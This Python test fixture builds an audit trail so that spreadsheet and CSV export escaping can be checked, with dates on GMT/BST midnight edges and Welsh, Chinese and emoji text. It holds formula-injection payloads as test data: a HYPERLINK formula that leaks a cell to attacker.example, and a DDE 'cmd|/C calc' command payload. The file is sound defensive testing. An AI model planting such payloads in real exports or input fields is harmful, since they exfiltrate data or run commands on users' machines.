"""A small audit trail with everything an export has to survive, at chosen moments.

Requests in two departments on two platforms, decided by approvers; free text that a
spreadsheet would run as a formula (=, +, -, @, tab, carriage return, a leading quote);
names and payloads in Welsh, Irish, Chinese and emoji; quotes, backslashes and line
breaks. Events fall either side of London midnights in winter (GMT) and summer (BST), so
date filters can be checked at their edges. `Trail.seq` names every event by a label.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime
from types import SimpleNamespace
from typing import Any

import pytest

from app.audit import chain
from app.audit.chain import ActorSnapshot, Client, append_event
from app.audit.events import EventType
from app.extensions import db
from app.operations.create_request import create_request
from app.operations.decide_stage import decide_stage
from app.operations.submit_request import submit_request
from app.operations.withdraw_request import withdraw_request
from app.rules.roles import Role
from app.rules.workflow import Outcome
from tests import factories

#: Free text a spreadsheet would take for a formula, or that starts with the quote the
#: export adds: each is exported with one more leading "'", and must still verify.
RISKY_TEXT = {
    "equals": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "plus": "+44 20 7946 0000, call me",
    "minus": "-2+3 days late",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\tindented with a tab",
    "carriage_return": "\rstarts with a carriage return",
    "quote": "'already quoted",
    "quote_then_trigger": "'=looks neutralised already",
    "lone_quote": "'",
}

#: Text that must come back exactly, in both formats.
AWKWARD_TEXT = {
    "welsh_irish": "Siân Ó Briain approved this",
    "chinese": "张伟 同意",
    "emoji": "Looks good 🎉👩🏽‍💻 ✅",
    "escapes": 'He said "on call" — a\\b, C:\\temp\\new;\nsecond line\r\nthird\tcolumn',
    "controls": "bell\x07 escape\x1b unit\x1f del\x7f nel\x85 ls\u2028 ps\u2029",
}


@dataclass
class Trail:
    """What was built: the seq of each labelled event, and the requests' references."""

    seq: dict[str, int] = field(default_factory=dict)
    references: dict[str, str] = field(default_factory=dict)

    def seqs(self, *labels: str) -> list[int]:
        return sorted(self.seq[label] for label in labels)


def moment(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


@contextmanager
def clock_at(when: datetime) -> Iterator[None]:
    """Events appended inside the block occur at `when`."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(chain, "utcnow", lambda: when)
        yield


def _last_seq() -> int:
    return chain.chain_head(db.session)[0]


def build_trail() -> Trail:
    """Make the world and the trail, and commit. Needs an app context on an empty database."""
    trail = Trail()
    world = factories.make_world()
    instagram = factories.make_platform("Instagram")
    risky_approver = factories.make_user(
        Role.APPROVER, stages=("security",), email="=cmd|calc@example.gov.uk"
    )
    welsh = factories.make_user(
        Role.APPROVER, stages=("no10",), email="siân.ó.briain@example.gov.uk"
    )
    chinese = factories.make_user(
        Role.APPROVER, stages=("cabinet_office",), email="张伟@example.cn"
    )

    def at(label: str, when: str) -> Any:
        """Label the next event(s) and fix their time."""

        @contextmanager
        def block() -> Iterator[None]:
            with clock_at(moment(when)):
                yield
            trail.seq[label] = _last_seq()

        return block()

    # A DSIT request on TikTok: created the second before midnight in January (GMT),
    # submitted at midnight, approved either side of midnight on 30 June (BST).
    with at("dsit_created", "2026-01-14T23:59:59.999999"):
        dsit = world.draft()
    with at("dsit_submitted", "2026-01-15T00:00:00"):
        submit_request(dsit, world.officer)
    with at("dsit_security", "2026-06-30T22:59:59.999999"):  # 23:59:59 BST on 30 June
        decide_stage(
            dsit,
            risky_approver,
            stage="security",
            version=dsit.version,
            outcome=Outcome.APPROVE,
            reason=RISKY_TEXT["equals"],
        )
    with at("dsit_no10", "2026-06-30T23:00:00"):  # midnight BST: 1 July in London
        decide_stage(
            dsit,
            welsh,
            stage="no10",
            version=dsit.version,
            outcome=Outcome.APPROVE_WITH_CONDITIONS,
            reason=AWKWARD_TEXT["welsh_irish"],
            conditions=RISKY_TEXT["plus"],
        )
    with at("dsit_cabinet", "2026-07-01T22:59:59.999999"):  # the last moment of 1 July
        decide_stage(
            dsit,
            chinese,
            stage="cabinet_office",
            version=dsit.version,
            outcome=Outcome.APPROVE,
            reason=AWKWARD_TEXT["chinese"],
        )
    trail.references["dsit"] = dsit.reference

    # A Home Office request on Instagram, sent back for changes on 2 July.
    with at("ho_created", "2026-07-01T23:00:00"):  # 2 July in London
        ho = create_request(
            world.outsider, platform=instagram, content=factories.complete_content()
        )
    with at("ho_submitted", "2026-07-02T08:00:00"):
        submit_request(ho, world.outsider)
    with at("ho_changes", "2026-07-02T09:00:00"):
        decide_stage(
            ho,
            world.security,
            stage="security",
            version=ho.version,
            outcome=Outcome.REQUEST_CHANGES,
            reason=RISKY_TEXT["at"],
        )
    trail.references["ho"] = ho.reference

    # A second DSIT draft, withdrawn in December.
    with at("dsit_2_created", "2026-12-01T10:00:00"):
        dsit_2 = world.draft(world.colleague)
    with at("dsit_2_withdrawn", "2026-12-01T11:00:00"):
        withdraw_request(dsit_2, world.colleague, reason=RISKY_TEXT["minus"])
    trail.references["dsit_2"] = dsit_2.reference

    # Events written straight to the chain, for text the forms would not accept.
    system = ActorSnapshot(None, None, ())
    risky_actor = ActorSnapshot(risky_approver.id, risky_approver.email, ("approver",))
    as_request = SimpleNamespace(id=dsit.id, reference=dsit.reference)
    direct: list[tuple[str, dict[str, Any]]] = [
        (
            "risky_sign_in",
            {
                "event_type": EventType.SIGN_IN_FAILED,
                "client": Client("+1.2.3.4", "=2*3"),
                "payload": {"email": "=1+2@example.gov.uk", "reason": "unknown_email"},
            },
        ),
        ("tab", {"actor": risky_actor, "request": as_request, "comment": RISKY_TEXT["tab"]}),
        ("cr", {"actor": risky_actor, "comment": RISKY_TEXT["carriage_return"]}),
        ("quote", {"actor": system, "comment": RISKY_TEXT["quote"]}),
        ("quote_then_trigger", {"comment": RISKY_TEXT["quote_then_trigger"]}),
        ("lone_quote", {"comment": RISKY_TEXT["lone_quote"]}),
        ("emoji", {"comment": AWKWARD_TEXT["emoji"], "client": Client("@host", "-id")}),
        ("escapes", {"comment": AWKWARD_TEXT["escapes"]}),
        ("controls", {"comment": AWKWARD_TEXT["controls"]}),
        (
            "payload",
            {
                "event_type": EventType.DEPARTMENT_CREATED,
                "payload": {
                    "code": "CY",
                    "name": "Llywodraeth Cymru — Siân Ó Briain",
                    "nested": {"张伟": ["🎉", None, True, False, -1, 0, 2**53 + 1]},
                    'quote"key': "back\\slash",
                    "=formula": "+1",
                },
            },
        ),
    ]
    for number, (label, options) in enumerate(direct):
        with at(label, f"2026-12-02T{10 + number:02d}:00:00"):
            append_event(db.session, options.pop("event_type", EventType.SIGNED_OUT), **options)

    db.session.commit()
    return trail
